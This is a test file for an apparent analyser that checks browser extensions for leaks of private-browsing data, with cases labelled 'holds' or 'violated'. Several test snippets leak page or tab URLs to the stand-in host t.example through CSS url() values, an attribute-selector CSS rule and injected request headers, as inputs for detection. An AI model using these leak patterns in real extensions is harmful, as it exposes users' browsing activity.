/**
 * Flows of data through calls, and aliases. Few and fast: `npm run mutate` runs them for each mutant of these
 * conditions.
 */
import { describe, expect, test } from "vitest";
import {
  answerOf,
  answerOfPage,
  answerOfWorker,
  click,
  EXPECTED,
  reportOf,
  reportOn,
  visit,
} from "./extensions.js";

const FIXTURES = {
  leaking: [
    "alarm-kept",
    "all-tabs",
    "answers-outside",
    "badge",
    "file-name",
    "map-delete",
    "muted-tabs",
    "native-port-assigned",
    "notification-icon",
    "other-extension",
    "remote-frame-told",
    "removed-key",
    "session-removed",
    "set-attribute",
    "store-of-callback",
    "upgrade-elsewhere",
    "with-assign",
  ],
  harmless: [
    "article-alone",
    "badge-constant",
    "clear-button",
    "constant-menu",
    "guarded-history",
    "https-upgrade",
    "offscreen-copy",
    "reminder",
  ],
} as const;
for (const kind of ["leaking", "harmless"] as const)
  describe(kind, () => {
    for (const name of FIXTURES[kind])
      test(name, async () => expect(answerOf(await reportOf(`${kind}/${name}.txt`))).toBe(EXPECTED[kind]));
  });

const kept = visit("if (tab.incognito) return; chrome.storage.local.set({ last: tab.url });");
const injected = (given: string): string =>
  `${kept} chrome.action.onClicked.addListener((tab) => { chrome.scripting.executeScript({ ${given}, func: () => 1 }); });`;

const clicked = click("chrome.storage.local.set({ last: clicked.url });");
const requests = (body: string): string =>
  `const hosts = ["t.example"]; chrome.webRequest.onBeforeRequest.addListener((details) => { ${body} }, { urls: ["<all_urls>"] }, ["blocking"]);`;
const skipping =
  "for (const each of await chrome.tabs.query({})) { if (each.incognito) continue; chrome.storage.local.set({ last: each.url }); }";

describe("calls", () => {
  for (const [name, script, expected] of [
    ["a function for a page", injected("target: { tabId: tab.id }"), "holds"],
    [
      "a function for a page, with an address",
      injected("target: { tabId: tab.id }, args: [tab.url]"),
      "violated",
    ],
    ["a function for a page, with a constant", injected('target: { tabId: 1 }, args: ["x"]'), "holds"],
    [
      "something that is done for what is given",
      injected("target: { tabId: (chrome.storage.local.set({ last: tab.url }), 1) }"),
      "violated",
    ],
    [
      "which tab is muted",
      `${visit("chrome.tabs.update(tab.id, { muted: true });")} ${click("chrome.storage.local.set({ now: await chrome.tabs.get(clicked.id) });")}`,
      "holds",
    ],
    [
      "a notification without pictures",
      visit('chrome.notifications.create({ type: "basic", title: tab.title, message: "seen" });'),
      "holds",
    ],
    [
      "an address of its own, given alone",
      `${visit("chrome.tabs.update({ muted: tab.url.length > 9 });")} ${click("chrome.storage.local.set({ now: await chrome.tabs.get(clicked.id) });")}`,
      "violated",
    ],
    [
      "a constant address of another protocol, behind a condition",
      visit('if (tab.url.includes("x")) chrome.tabs.create({ url: "ftp://t.example/" });'),
      "violated",
    ],
    [
      "headers of other requests",
      visit(
        'chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 1, action: { type: "modifyHeaders", requestHeaders: [{ header: "x-last", operation: "set", value: tab.url }] }, condition: { urlFilter: "x" } }] });',
      ),
      "violated",
    ],
    [
      "what an event may bring back",
      `${visit("chrome.action.setTitle({ title: tab.url });")} ${clicked}`,
      "violated",
    ],
    [
      "what is to listen no more",
      `${visit("chrome.action.onClicked.removeListener(tab.url);")} ${clicked}`,
      "holds",
    ],
    [
      "something that is not seen, by the name of a method of lists",
      visit("tracker.delete(tab.url);"),
      "violated",
    ],
    [
      "a function that was given, by the name of a method of lists",
      `function each(value, pop) { pop(value); } ${visit("each(tab.url, (seen) => console.log(seen));")} ${click("chrome.storage.local.set({ on: clicked.active });")}`,
      "holds",
    ],
    [
      "what is left of a list",
      `const left = ["a"]; ${visit("left.pop();")} ${click("chrome.storage.local.set({ left: left.length });")}`,
      "violated",
    ],
    [
      "what is left of a list of an object",
      `const kept = { urls: ["a"] }; function drop(state) { state.urls.pop(); } ${visit("if (tab.url) drop(kept);")} ${click("chrome.storage.local.set({ left: kept.urls.length });")}`,
      "violated",
    ],
    ["a copy", visit("const copy = {}; Object.assign(copy, { last: tab.url }); console.log(copy);"), "holds"],
    ["nothing that is assigned", visit("if (tab.url) Object.assign();"), "holds"],
    ["a list", `const list = []; ${visit("list.push(tab.url);")}`, "holds"],
    [
      "a request that is answered by a page of the extension",
      requests('return { redirectUrl: chrome.runtime.getURL("blocked.html") };'),
      "holds",
    ],
    [
      "a request that is answered by a text",
      requests('return { redirectUrl: "data:text/plain,blocked" };'),
      "holds",
    ],
    [
      "what is decided about a request on the way",
      requests("const isBad = () => { return details.url; }; return { cancel: isBad() };"),
      "holds",
    ],
    ["tabs of all windows but private ones", click(skipping), "holds"],
    [
      "tabs of all windows but private ones, where one has lost its answer",
      `${visit("delete tab.incognito;")} ${click(skipping)}`,
      "violated",
    ],
  ] as const)
    test(name, async () => expect(await answerOfWorker(script)).toBe(expected));

  test("tabs of all windows, where private ones have a background page of their own", async () => {
    const report = await reportOn({
      "manifest.json":
        '{"manifest_version": 3, "incognito": "split", "background": {"service_worker": "bg.js"}}',
      "bg.js": click("chrome.storage.local.set({ open: await chrome.tabs.query({}) });"),
    });
    expect(answerOf(report)).toBe("holds");
  });

  test("a style sheet that is fetched, and something that is stored for it", async () => {
    const { properties } = await reportOn({
      "manifest.json": '{"manifest_version": 3, "background": {"service_worker": "bg.js"}}',
      "bg.js": visit(
        'chrome.scripting.insertCSS({ target: { tabId: (chrome.storage.local.set({ last: tab.url }), id) }, css: "input[value^=a] { background: url(https://t.example/a) }" });',
      ),
    });
    expect(properties.map(({ verdict }) => verdict)).toEqual(["violated", "violated"]);
  });
});

describe("elements", () => {
  for (const [name, script, expected] of [
    [
      "a style that may have an address",
      'document.body.style.fill = "url(https://t.example/?" + location.href + ")";',
      "violated",
    ],
    [
      "part of the address of the page, beside another address of that name",
      "function hostOf(text) { const location = new URL(text); return location.host; } location.search = document.title;",
      "violated",
    ],
    ["what is copied", 'document.execCommand("copy");', "violated"],
    ["a font that is changed", 'document.execCommand("bold");', "holds"],
    [
      "the text of a style sheet",
      'const sheet = document.createElement("style"); sheet.append("a { background: url(https://t.example/?" + location.href + ") }");',
      "violated",
    ],
    [
      "an element that is no store",
      "function show(it) { it.append(document.title); } show(document.body); // no caches",
      "holds",
    ],
    [
      "a constant attribute, behind a condition",
      'const image = document.body; if (document.title) image.setAttribute("src", "pixel.png");',
      "holds",
    ],
    ["an attribute that is shown", 'document.body.setAttribute("title", document.title);', "holds"],
  ] as const)
    test(name, async () => expect(await answerOfPage(script)).toBe(expected));
});

describe("messages of pages", () => {
  const query = (body: string): string =>
    `chrome.tabs.query({ active: true, currentWindow: true }).then(([tab]) => { ${body} });`;
  const popup = (script: string): Promise<string> =>
    reportOn({
      "manifest.json": '{"manifest_version": 3, "action": {"default_popup": "p.html"}}',
      "p.html": '<iframe id="frame" src="frame.html"></iframe><script src="p.js"></script>',
      "frame.html": "<p>frame</p>",
      "p.js": script,
    }).then(answerOf);
  const toFrame = 'document.getElementById("frame").contentWindow.postMessage(tab.url, "*");';
  test("to a frame of its own", async () => expect(await popup(query(toFrame))).toBe("holds"));
  test("to a frame that may lead elsewhere", async () =>
    expect(
      await popup(`document.getElementById("frame").src = "https://t.example/"; ${query(toFrame)}`),
    ).toBe("violated"));
  test("to the page itself, beside an address", async () =>
    expect(
      await popup(`const HELP = "https://t.example/"; ${query('parent.postMessage(tab.url, "*");')}`),
    ).toBe("holds"));
  test("of a script in a page, to its frames", async () => {
    const report = await reportOn({
      "manifest.json":
        '{"manifest_version": 3, "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"]}]}',
      "cs.js":
        'document.querySelector("iframe").contentWindow.postMessage(document.title, "https://t.example");',
    });
    expect(answerOf(report)).toBe("holds");
  });
});

describe("names that stand for one thing", () => {
  const listed = (declaration: string, more = ""): string =>
    `${more} chrome.action.onClicked.addListener(async () => { ${declaration} open = (await chrome.tabs.query({})).filter((each) => !each.incognito); chrome.storage.local.set({ open: open.map((each) => each.url) }); });`;
  for (const [name, script, expected] of [
    ["a constant", listed("const"), "holds"],
    [
      "a constant, and a parameter of that name",
      listed("const", "function show(open) { console.log(open); }"),
      "violated",
    ],
    ["a constant, and a function of that name", listed("const", "function open() {}"), "violated"],
    // Over-approximated.
    ["a variable", listed("let"), "violated"],
  ] as const)
    test(name, async () => expect(await answerOfWorker(script)).toBe(expected));
});
